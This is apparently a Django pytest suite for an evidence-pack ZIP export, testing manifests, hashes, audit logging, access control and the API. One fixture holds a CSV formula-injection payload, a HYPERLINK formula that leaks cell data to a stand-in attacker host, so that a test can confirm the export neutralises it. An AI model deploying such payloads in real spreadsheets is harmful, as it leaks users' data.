"""The evidence pack: one ZIP that an auditor can check on their own — every file listed in the
manifest with its SHA-256, every figure of every control, the records behind each figure exactly,
the stamp naming the audit checkpoint — and whose export the audit trail records with the
manifest's hash. Only those who read the evidence may download it; a failure records nothing."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
from django.core.serializers.json import DjangoJSONEncoder
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from governance.anchoring import checkpoint_sign, verify_and_record
from governance.audit import audit_record
from governance.controls import pack, registry
from governance.controls.models import ControlMapping, EvidenceThreshold
from governance.controls.registry import LOWER, Control, Figure, Threshold
from governance.exceptions import NotFound, Unprocessable
from governance.models import AuditEvent, User

pytestmark = pytest.mark.django_db

URL = "/evidence/pack/"
API_URL = "/api/v1/evidence-pack/"
TRICKY_RECORDS: list[dict[str, Any]] = [
    {"name": '=HYPERLINK("https://evil.example/?"&A1,"open")', "owner": None, "scopes": ["a:read", "b:write"]},
    {"name": "Ünïcode, with a comma\nand a new line", "owner": "alice", "extra": {"nested": True}},
]


def _people_records() -> Iterator[Mapping[str, Any]]:
    return User.objects.order_by("username").values("username", "email", "date_joined", "is_active").iterator()


def _owners_evidence() -> list[Figure]:
    people = User.objects.count()
    return [
        Figure(
            key="test-owners.share_named",
            label="Share with a named owner",
            value=97.5,
            threshold=Threshold(met=98, partly=90),
            detail=f"{people} people on record",
            records_url="/inventory/?owner=none",
            records=_people_records,
        ),
        Figure(
            key="test-owners.none_to_measure",
            label="Nothing to measure",
            value=None,
            threshold=Threshold(met=100),
            detail="No campaign yet.",
        ),
    ]


def _orphans_evidence() -> list[Figure]:
    return [
        Figure(
            key="test-orphans.old",
            label="Orphaned for more than 30 days",
            value=2,
            threshold=Threshold(met=0),
            unit="count",
            better=LOWER,
            records=lambda: iter(TRICKY_RECORDS),
        )
    ]


TEST_CONTROLS = {
    "test-owners": Control(
        "test-owners", "Named owners (test)", "Every integration has an owner.", "tests", _owners_evidence, 1
    ),
    "test-orphans": Control(
        "test-orphans", "Orphan handling (test)", "Orphans are dealt with.", "tests", _orphans_evidence, 2
    ),
}


@pytest.fixture
def test_controls(monkeypatch: pytest.MonkeyPatch, iam_admin: User) -> dict[str, Control]:
    """The registry holds only the two test controls; ``test-owners`` answers OWASP NHI1:2025."""
    monkeypatch.setattr(registry, "_CONTROLS", dict(TEST_CONTROLS))
    ControlMapping.objects.create(
        control_id="test-owners", framework_slug="owasp-nhi-2025", item_code="NHI1:2025", created_by=iam_admin
    )
    return TEST_CONTROLS


def _download(client: Any, data: dict[str, str] | None = None) -> tuple[Any, bytes]:
    response = client.post(URL, data or {})
    assert response.status_code == 200, response.content[:500]
    return response, b"".join(response.streaming_content)


def _open(body: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(body))


def _json(value: Any) -> Any:
    return json.loads(json.dumps(value, cls=DjangoJSONEncoder))


def _sign_checkpoint(actor: User) -> Any:
    with transaction.atomic():
        audit_record(actor=actor, action="test.something_happened", target_type="tests.thing", target_id="1")
    return checkpoint_sign()


# --- The download --------------------------------------------------------------------------------


def test_iam_admin_downloads_a_zip_whose_files_all_match_the_manifest(web_as, iam_admin, test_controls):
    response, body = _download(web_as(iam_admin))
    assert response["Content-Type"] == "application/zip"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="evidence-pack-') and disposition.endswith('.zip"')
    archive = _open(body)
    assert archive.testzip() is None
    manifest = json.loads(archive.read("manifest.json"))
    listed = {entry["path"]: entry for entry in manifest["files"]}
    assert set(listed) | {"manifest.json"} == set(archive.namelist())
    for path, entry in listed.items():
        data = archive.read(path)
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], path
        assert len(data) == entry["bytes"], path
    assert {"report.html", "figures.csv", "figures.json", "frameworks.csv", "frameworks.json"} <= set(listed)
    assert manifest["figures"] == 3 and manifest["controls"] == 2
    assert response["X-Evidence-Manifest-SHA256"] == hashlib.sha256(archive.read("manifest.json")).hexdigest()


def test_auditor_downloads_the_pack(web_as, auditor, test_controls):
    _response, body = _download(web_as(auditor))
    manifest = json.loads(_open(body).read("manifest.json"))
    assert manifest["stamp"]["generated_by"] == "auditor"


def test_reviewer_downloads_the_pack(web_as, reviewer, test_controls):
    _response, body = _download(web_as(reviewer))
    assert "report.html" in _open(body).namelist()


def test_figures_csv_and_json_hold_every_figure_with_its_threshold_and_status(web_as, iam_admin, test_controls):
    _response, body = _download(web_as(iam_admin))
    archive = _open(body)
    rows = list(csv.DictReader(io.StringIO(archive.read("figures.csv").decode("utf-8"))))
    assert [row["figure_key"] for row in rows] == [
        "test-owners.share_named",
        "test-owners.none_to_measure",
        "test-orphans.old",
    ]
    share = rows[0]
    assert share["control_id"] == "test-owners"
    assert (share["value"], share["unit"], share["threshold_met"], share["threshold_partly"]) == (
        "97.5",
        "%",
        "98",
        "90",
    )
    assert share["status"] == "partly" and share["control_status"] == "partly"
    assert share["records_file"] == "records/test-owners.share_named.csv"
    assert share["records_url"] == "http://testserver/inventory/?owner=none"
    assert share["measured_at"]
    assert rows[1]["status"] == "not_applicable" and rows[1]["value"] == "" and rows[1]["records_file"] == ""
    assert rows[2]["status"] == "not_met" and rows[2]["records_count"] == "2"
    figures = json.loads(archive.read("figures.json"))["figures"]
    assert [f["figure_key"] for f in figures] == [row["figure_key"] for row in rows]
    assert figures[1]["value"] is None and figures[0]["threshold_partly"] == 90


def test_the_organisations_threshold_is_the_one_reported(web_as, iam_admin, test_controls):
    EvidenceThreshold.objects.create(figure_key="test-owners.share_named", met=95, partly=None, updated_by=iam_admin)
    _response, body = _download(web_as(iam_admin))
    figures = json.loads(_open(body).read("figures.json"))["figures"]
    share = figures[0]
    assert (share["threshold_met"], share["threshold_partly"], share["threshold_is_default"]) == (95, None, False)
    assert share["status"] == "met"


def test_records_files_hold_exactly_the_figures_records(web_as, iam_admin, make_user, test_controls):
    for number in range(5):
        make_user(f"person{number}")
    _response, body = _download(web_as(iam_admin))
    archive = _open(body)
    expected = _json(list(_people_records()))
    assert json.loads(archive.read("records/test-owners.share_named.json")) == expected
    rows = list(csv.DictReader(io.StringIO(archive.read("records/test-owners.share_named.csv").decode("utf-8"))))
    assert [row["username"] for row in rows] == [record["username"] for record in expected]
    assert rows[0]["is_active"] == "true" and rows[0]["date_joined"] == expected[0]["date_joined"]
    assert "records/test-owners.none_to_measure.csv" not in archive.namelist()


def test_records_csv_neutralises_formulas_and_keeps_every_key_while_json_keeps_values(web_as, iam_admin, test_controls):
    _response, body = _download(web_as(iam_admin))
    archive = _open(body)
    assert json.loads(archive.read("records/test-orphans.old.json")) == TRICKY_RECORDS
    rows = list(csv.DictReader(io.StringIO(archive.read("records/test-orphans.old.csv").decode("utf-8"))))
    assert list(rows[0]) == ["name", "owner", "scopes", "extra"]
    assert rows[0]["name"].startswith("'=HYPERLINK")
    assert (rows[0]["owner"], rows[0]["scopes"], rows[0]["extra"]) == ("", '["a:read", "b:write"]', "")
    assert rows[1]["name"] == "Ünïcode, with a comma\nand a new line"
    assert rows[1]["extra"] == '{"nested": true}'


def test_the_stamp_names_the_audit_checkpoint_and_the_last_verification(web_as, iam_admin, test_controls):
    checkpoint = _sign_checkpoint(iam_admin)
    verify_and_record()
    _response, body = _download(web_as(iam_admin))
    archive = _open(body)
    stamp = json.loads(archive.read("manifest.json"))["stamp"]
    assert stamp["audit_checkpoint"]["sequence"] == checkpoint.sequence
    assert stamp["audit_checkpoint"]["head_hash"] == checkpoint.head_hash
    assert stamp["audit_checkpoint"]["signature"] == checkpoint.signature
    assert stamp["audit_chain_check"]["intact"] is True
    assert stamp["audit_chain_check"]["checkpoint_sequence"] == checkpoint.sequence
    assert stamp["portal_version"] == pack.portal_version()
    assert stamp["catalog_version"] and stamp["generated_by"] == "admin"
    report = archive.read("report.html").decode("utf-8")
    assert f"Checkpoint {checkpoint.sequence}, signed" in report and checkpoint.head_hash in report


def test_without_a_checkpoint_the_stamp_says_so(web_as, iam_admin, test_controls):
    _response, body = _download(web_as(iam_admin))
    archive = _open(body)
    assert json.loads(archive.read("manifest.json"))["stamp"]["audit_checkpoint"] is None
    assert "No checkpoint has been signed yet." in archive.read("report.html").decode("utf-8")


def test_the_export_is_audited_with_the_manifests_hash(web_as, iam_admin, test_controls):
    checkpoint = _sign_checkpoint(iam_admin)
    response, body = _download(web_as(iam_admin))
    archive = _open(body)
    event = AuditEvent.objects.get(action=pack.EXPORT_ACTION)
    after = event.after or {}
    manifest_hash = hashlib.sha256(archive.read("manifest.json")).hexdigest()
    assert event.actor_username == "admin" and event.owner_username == "admin"
    assert event.target_type == pack.TARGET_TYPE and event.target_id == manifest_hash
    assert event.target_repr in response["Content-Disposition"]
    assert after["manifest_sha256"] == manifest_hash
    assert after["pack_sha256"] == hashlib.sha256(body).hexdigest()
    assert after["figures"] == 3 and after["records"] == User.objects.count() + 2
    assert after["checkpoint"]["sequence"] == checkpoint.sequence
    assert after["checkpoint"]["head_hash"] == checkpoint.head_hash


def test_a_framework_pack_holds_only_the_controls_mapped_to_it(web_as, iam_admin, test_controls):
    response, body = _download(web_as(iam_admin), {"framework": "owasp-nhi-2025"})
    assert 'filename="evidence-pack-owasp-nhi-2025-' in response["Content-Disposition"]
    archive = _open(body)
    figures = json.loads(archive.read("figures.json"))["figures"]
    assert {f["control_id"] for f in figures} == {"test-owners"}
    frameworks = json.loads(archive.read("frameworks.json"))["frameworks"]
    assert [fw["slug"] for fw in frameworks] == ["owasp-nhi-2025"]
    first = frameworks[0]["item_status"][0]
    assert (first["code"], first["controls"], first["status"]) == ("NHI1:2025", ["test-owners"], "partly")
    assert frameworks[0]["items"] == 10 and frameworks[0]["covered"] >= 1
    after = AuditEvent.objects.get(action=pack.EXPORT_ACTION).after or {}
    assert after["framework"] == "owasp-nhi-2025"


def test_frameworks_csv_lists_every_item_of_every_framework(web_as, iam_admin, test_controls):
    from governance.controls import catalog

    _response, body = _download(web_as(iam_admin))
    rows = list(csv.DictReader(io.StringIO(_open(body).read("frameworks.csv").decode("utf-8"))))
    expected = [(info.slug, item.code) for info in catalog.frameworks() for item in info.items]
    assert [(row["framework"], row["code"]) for row in rows] == expected
    nhi1 = next(row for row in rows if row["code"] == "NHI1:2025")
    assert (nhi1["controls"], nhi1["status"]) == ("test-owners", "partly")


def test_report_html_is_self_contained_and_holds_every_control_and_figure(web_as, iam_admin, test_controls):
    _response, body = _download(web_as(iam_admin))
    report = _open(body).read("report.html").decode("utf-8")
    for forbidden in ("<script", "<link", "<img", "src=", "url(", "@import"):
        assert forbidden not in report, forbidden
    for text in ("Named owners (test)", "Orphan handling (test)", "Share with a named owner", "≥ 98 % (partly ≥ 90 %)"):
        assert text in report
    assert "@media print" in report and "break-before: page" in report
    # Records are counted, never inlined.
    assert "HYPERLINK" not in report and "Ünïcode" not in report


# --- Who may download ----------------------------------------------------------------------------


def test_outsider_gets_404_for_the_page_and_the_download(web_as, outsider, test_controls):
    client = web_as(outsider)
    assert client.get(URL).status_code == 404
    assert client.post(URL, {}).status_code == 404
    assert not AuditEvent.objects.filter(action=pack.EXPORT_ACTION).exists()


def test_anonymous_is_sent_to_sign_in(client, test_controls):
    for response in (client.get(URL), client.post(URL, {})):
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert not AuditEvent.objects.filter(action=pack.EXPORT_ACTION).exists()


def test_the_service_refuses_whoever_may_not_read_the_evidence(outsider, test_controls):
    with pytest.raises(NotFound):
        pack.evidence_pack_export(actor=outsider)
    assert not AuditEvent.objects.filter(action=pack.EXPORT_ACTION).exists()


# --- Errors change nothing -----------------------------------------------------------------------


def _failing_evidence() -> list[Figure]:
    def records() -> Iterator[dict[str, Any]]:
        yield {"row": 1}
        raise RuntimeError("the records broke half-way")

    return [Figure(key="test-broken.records", label="Broken", value=1, threshold=Threshold(met=1), records=records)]


def test_a_failure_while_building_leaves_no_audit_event(web_as, iam_admin, test_controls, monkeypatch):
    monkeypatch.setitem(
        registry._CONTROLS, "test-broken", Control("test-broken", "Broken", "Fails.", "tests", _failing_evidence, 3)
    )
    before = AuditEvent.objects.count()
    client = web_as(iam_admin)
    client.raise_request_exception = False
    assert client.post(URL, {}).status_code == 500
    with pytest.raises(RuntimeError):
        pack.evidence_pack_export(actor=iam_admin)
    assert AuditEvent.objects.count() == before


def test_an_unknown_framework_is_refused_and_the_form_keeps_it(web_as, iam_admin, test_controls):
    response = web_as(iam_admin).post(URL, {"framework": "no-such-framework"})
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    assert not AuditEvent.objects.filter(action=pack.EXPORT_ACTION).exists()
    with pytest.raises(Unprocessable) as refused:
        pack.evidence_pack_export(actor=iam_admin, framework="no-such-framework")
    assert "framework" in refused.value.errors


# --- Cost ----------------------------------------------------------------------------------------


def _queries_to_export(user: User) -> int:
    with CaptureQueriesContext(connection) as queries:
        exported = pack.evidence_pack_export(actor=user)
    exported.file.close()
    return len(queries)


def test_building_the_pack_runs_the_same_queries_whatever_the_number_of_records(iam_admin, test_controls):
    _queries_to_export(iam_admin)  # the first call also reads the user's roles, cached on the user
    small = _queries_to_export(iam_admin)
    User.objects.bulk_create(User(username=f"bulk{number}", email=f"bulk{number}@example.com") for number in range(300))
    large = _queries_to_export(iam_admin)
    assert large == small
    assert small <= 20


def test_the_page_explains_the_pack_and_lists_the_latest_exports(
    web_as, iam_admin, auditor, test_controls, django_assert_max_num_queries
):
    _sign_checkpoint(iam_admin)
    for _ in range(3):
        pack.evidence_pack_export(actor=iam_admin).file.close()
    client = web_as(auditor)
    with django_assert_max_num_queries(15):
        response = client.get(URL)
    page = response.content.decode()
    assert response.status_code == 200
    assert "What the pack holds" in page and "Checkpoint 1, signed" in page
    assert page.count("evidence-pack-") >= 3
    event = AuditEvent.objects.filter(action=pack.EXPORT_ACTION).first()
    assert event is not None and event.target_id in page


def test_a_frameworks_page_can_link_to_the_page_with_its_scope_preselected(web_as, reviewer, test_controls):
    page = web_as(reviewer).get(URL, {"framework": "nist-csf-2.0"}).content.decode()
    assert '<option value="nist-csf-2.0" selected>' in page
    assert '<option value="" selected>' not in page


def test_the_page_runs_a_fixed_number_of_queries(web_as, iam_admin, test_controls):
    client = web_as(iam_admin)
    assert client.get(URL).status_code == 200  # warm-up: session, caches
    with CaptureQueriesContext(connection) as few:
        assert client.get(URL).status_code == 200
    for _ in range(12):
        pack.evidence_pack_export(actor=iam_admin).file.close()
    with CaptureQueriesContext(connection) as many:
        assert client.get(URL).status_code == 200
    assert len(many) == len(few)


# --- The real catalog ----------------------------------------------------------------------------


def test_every_registered_control_and_figure_is_in_the_pack(web_as, iam_admin):
    """With the portal's own controls (not the test ones): every figure they report is in
    figures.csv, and every figure with records has its records files."""
    expected = [(result.control.id, figure.key) for result in registry.evaluate_all({}) for figure in result.figures]
    assert len({control_id for control_id, _key in expected}) == len(registry.controls()) >= 14
    _response, body = _download(web_as(iam_admin))
    archive = _open(body)
    rows = list(csv.DictReader(io.StringIO(archive.read("figures.csv").decode("utf-8"))))
    assert [(row["control_id"], row["figure_key"]) for row in rows] == expected
    with_records = [row for row in rows if row["records_file"]]
    assert with_records, "no figure exported its records"
    for row in with_records:
        assert row["records_file"] in archive.namelist()
        assert row["records_file"].removesuffix(".csv") + ".json" in archive.namelist()


# --- API -----------------------------------------------------------------------------------------


def test_api_returns_the_pack_and_audits_it(api_as, iam_admin, test_controls):
    response = api_as(iam_admin).post(API_URL, {"framework": "owasp-nhi-2025"}, format="json")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert "no-store" in response["Cache-Control"]
    archive = _open(b"".join(response.streaming_content))
    manifest_hash = hashlib.sha256(archive.read("manifest.json")).hexdigest()
    assert AuditEvent.objects.get(action=pack.EXPORT_ACTION).target_id == manifest_hash


def test_api_without_a_body_exports_everything(api_as, iam_admin, test_controls):
    response = api_as(iam_admin).post(API_URL)
    assert response.status_code == 200
    assert json.loads(_open(b"".join(response.streaming_content)).read("manifest.json"))["controls"] == 2


def test_api_auditor_with_a_token_downloads_the_pack(token_client, auditor, test_controls):
    response = token_client(auditor).post(API_URL, {}, format="json")
    assert response.status_code == 200
    assert AuditEvent.objects.get(action=pack.EXPORT_ACTION).actor_username == "auditor"


def test_api_auditor_signed_in_in_the_browser_downloads_the_pack(web_as, auditor, test_controls):
    response = web_as(auditor).post(API_URL, "{}", content_type="application/json")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"


def test_api_each_call_is_a_new_export_even_with_the_same_idempotency_key(token_client, iam_admin, test_controls):
    client = token_client(iam_admin)
    for _ in range(2):
        response = client.post(API_URL, {}, format="json", HTTP_IDEMPOTENCY_KEY="pack-1")
        assert response.status_code == 200 and response["Content-Type"] == "application/zip"
        assert _open(b"".join(response.streaming_content)).testzip() is None
    assert AuditEvent.objects.filter(action=pack.EXPORT_ACTION).count() == 2


def test_api_outsider_gets_a_problem_404(api_as, outsider, test_controls):
    response = api_as(outsider).post(API_URL, {}, format="json")
    assert response.status_code == 404 and response["Content-Type"] == "application/problem+json"
    assert not AuditEvent.objects.filter(action=pack.EXPORT_ACTION).exists()


def test_api_anonymous_gets_401(api_client, test_controls):
    assert api_client.post(API_URL, {}, format="json").status_code == 401


def test_api_unknown_framework_is_a_422_naming_the_field(api_as, iam_admin, test_controls):
    response = api_as(iam_admin).post(API_URL, {"framework": "no-such-framework"}, format="json")
    assert response.status_code == 422
    assert "framework" in response.json()["errors"]
    assert not AuditEvent.objects.filter(action=pack.EXPORT_ACTION).exists()


def test_api_wrong_type_is_a_400_naming_the_field(api_as, iam_admin, test_controls):
    response = api_as(iam_admin).post(API_URL, {"framework": 7}, format="json")
    assert response.status_code == 400 and "framework" in response.json()["errors"]


def test_api_get_is_not_allowed(api_as, iam_admin, test_controls):
    assert api_as(iam_admin).get(API_URL).status_code == 405


# --- Locks ---------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_building_the_pack_holds_no_transaction_only_the_export_event_does(iam_admin, test_controls, monkeypatch):
    """On SQLite a transaction begins IMMEDIATE: the database's one write lock. Building a pack of
    many records must not hold it (every other writer would wait, then fail); only the event's
    write takes it, briefly. Called as a task or command would, without a request's transaction."""
    seen: list[bool] = []

    def probing_evidence() -> list[Figure]:
        def records() -> Iterator[dict[str, Any]]:
            seen.append(connection.in_atomic_block)
            yield {"row": 1}

        return [Figure(key="test-probe.rows", label="Probe", value=1, threshold=Threshold(met=1), records=records)]

    monkeypatch.setitem(
        registry._CONTROLS, "test-probe", Control("test-probe", "Probe", "Probes.", "tests", probing_evidence, 3)
    )
    exported = pack.evidence_pack_export(actor=iam_admin)
    exported.file.close()
    assert seen == [False]
    event = AuditEvent.objects.get(action=pack.EXPORT_ACTION)
    assert event.pk == exported.event.pk and event.target_id == exported.summary.manifest_sha256
